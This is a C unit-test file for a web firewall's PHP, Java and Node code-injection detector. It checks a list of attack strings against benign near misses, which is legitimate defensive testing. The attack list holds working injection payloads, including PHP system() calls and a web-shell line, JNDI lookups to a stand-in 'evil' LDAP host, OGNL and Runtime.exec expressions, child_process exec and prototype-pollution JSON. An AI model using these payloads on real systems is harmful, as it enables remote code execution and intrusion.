/* tests/waf/test_waf_code.c — unit tests for waf_detect_code (PHP / Java / Node code
 * injection). */
#include "detector_test.h"
#include "detect_util.h"

/* Written for these tests: attacks of the class, in its usual encodings. */
static const struct sample attacks[] = {
    /* a rule right after a word run and after parenthesised prose */
    {WAF_PLACE_ARG, "note (see below) system('id')"},
    {WAF_PLACE_ARG, "x__proto__[y]=1"},
    {WAF_PLACE_ARG, "<?php system($_GET[\"c\"]); ?>"},
    {WAF_PLACE_ARG, "system('id')"},
    {WAF_PLACE_ARG, "phpinfo()"},
    {WAF_PLACE_ARG, "$_SERVER['HTTP_HOST']"},
    {WAF_PLACE_ARG, "O:8:\"stdClass\":1:{s:1:\"a\";i:2;}"},
    {WAF_PLACE_ARG, "php://filter/convert.base64-encode/resource=index"},
    {WAF_PLACE_ARG, "${${lower:j}ndi:ldap://x/a}"},
    {WAF_PLACE_ARG, "${jndi:ldap://evil/x}"},
    {WAF_PLACE_ARG, "java.lang.Runtime"},
    {WAF_PLACE_ARG, "Runtime.getRuntime().exec(\"id\")"},
    {WAF_PLACE_ARG, "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"},
    {WAF_PLACE_ARG, "T(java.lang.Runtime).getRuntime()"},
    {WAF_PLACE_ARG, "rO0ABXNyABFqYXZh"},
    {WAF_PLACE_ARG, "require('child_process').exec('id')"},
    {WAF_PLACE_ARG, "process.mainModule.require(\"fs\")"},
    {WAF_PLACE_ARG, "{\"__proto__\": {\"isAdmin\": true}}"},
    {WAF_PLACE_ARG, "while(true){}"},
    {WAF_PLACE_ARG, "(['system'])[0]('uname')"},
    {WAF_PLACE_ARG, "allow_url_include=1"},
    {WAF_PLACE_ARG, "$f(101)"},
    {WAF_PLACE_ARG, "{${phpinfo()}}"},
    {WAF_PLACE_HEADER, "shell. php"},
    /* keyword tables behind the length filter: any case, longest names */
    {WAF_PLACE_ARG, "x CHILD_PROCESS y"},
    {WAF_PLACE_ARG, "new PrototypeSerializationFactory"},
    {WAF_PLACE_ARG, "Kernel.exec(\"id\")"},
    {WAF_PLACE_ARG, "BASE64_DECODE ('aWQ=')"},
    {WAF_PLACE_ARG, "a=JdbcRowSetImpl"},
    /* upper-case starts of the Node and Java rules (their start bytes) */
    {WAF_PLACE_ARG, "REQUIRE('child_process')"},
    {WAF_PLACE_ARG, "WHILE (TRUE) {}"},
    {WAF_PLACE_ARG, "x = Function(\"return process\")()"},
    {WAF_PLACE_ARG, "a.Constructor.prototype.b = 1"},
    {WAF_PLACE_ARG, "${JNDI:LDAP://evil/x}"},
    {WAF_PLACE_ARG, "x@{[ `id` ]}"},
    {WAF_PLACE_ARG, "ACED0005737200"},
};

/* Near misses: ordinary data that shares characters with the attacks. */
static const struct sample benign[] = {
    {WAF_PLACE_ARG, "surprise us! (no anchovies though)"},
    {WAF_PLACE_ARG, "no onions (allergy!) - thanks"},
    {WAF_PLACE_ARG, "the solar system (2 planets)"},
    {WAF_PLACE_ARG, "print this page"},
    {WAF_PLACE_ARG, "Price: $5 (USD)"},
    {WAF_PLACE_ARG, "I use java.com to download"},
    {WAF_PLACE_ARG, "{{name}}"},
    {WAF_PLACE_ARG, "include me in the list"},
    {WAF_PLACE_ARG, "process order #123"},
    {WAF_PLACE_ARG, "Dear Sir (or Madam)"},
    {WAF_PLACE_ARG, "Tom (Jr) ran for (a) while (ok)"}, /* start bytes, no rule */
    {WAF_PLACE_ARG, "extension=4412"},
    {WAF_PLACE_ARG, "8f14e45fceea167a5a36dedd4bea2543"},
    {WAF_PLACE_ARG, "SSBsb3ZlIFBIUAo="},
    {WAF_PLACE_ARG, "query AddToCart($sku: String!) { addToCart(sku: $sku) { id } }"},
    {WAF_PLACE_HEADER, "https://example.com/index.php"},
    {WAF_PLACE_ARG, "report.final.pdf"},
    /* prose: no '(' and no API word, the cheap path */
    {WAF_PLACE_ARG, "extra basil, please; it's for Tom's birthday"},
    {WAF_PLACE_ARG, "Ring twice -- the bell's broken. Don't leave it at the door!"},
};

static void test_attacks(void)
{
    check_attacks(waf_detect_code, attacks, NSAMPLES(attacks));
}

static void test_benign(void)
{
    check_benign(waf_detect_code, benign, NSAMPLES(benign));
}

static void test_robustness(void)
{
    check_robustness(waf_detect_code);
}

/* The shared byte tables: lower case folds 'A'..'Z' only, the classes are
 * ASCII's (no byte >= 0x80 is a letter, NUL is no space). */
static void test_lc_table(void)
{
    for (unsigned c = 0; c < 256; c++) {
        int upper = c >= 'A' && c <= 'Z', lower = c >= 'a' && c <= 'z';
        int digit = c >= '0' && c <= '9';
        CU_ASSERT_EQUAL(waf_lc((unsigned char)c), upper ? c + 32 : c);
        CU_ASSERT_EQUAL(!!waf_is_alpha((unsigned char)c), upper || lower);
        CU_ASSERT_EQUAL(!!waf_is_alnum((unsigned char)c), upper || lower || digit);
        CU_ASSERT_EQUAL(!!waf_is_word((unsigned char)c),
                        upper || lower || digit || c == '_');
        CU_ASSERT_EQUAL(!!waf_is_space((unsigned char)c),
                        c == ' ' || (c >= '\t' && c <= '\r'));
    }
}

int main(void)
{
    static const struct named_test tests[] = {
        {"attacks", test_attacks},
        {"benign near misses", test_benign},
        {"robustness", test_robustness},
        {"lower-case table", test_lc_table},
    };
    return run_suite("waf_code", tests, NSAMPLES(tests));
}
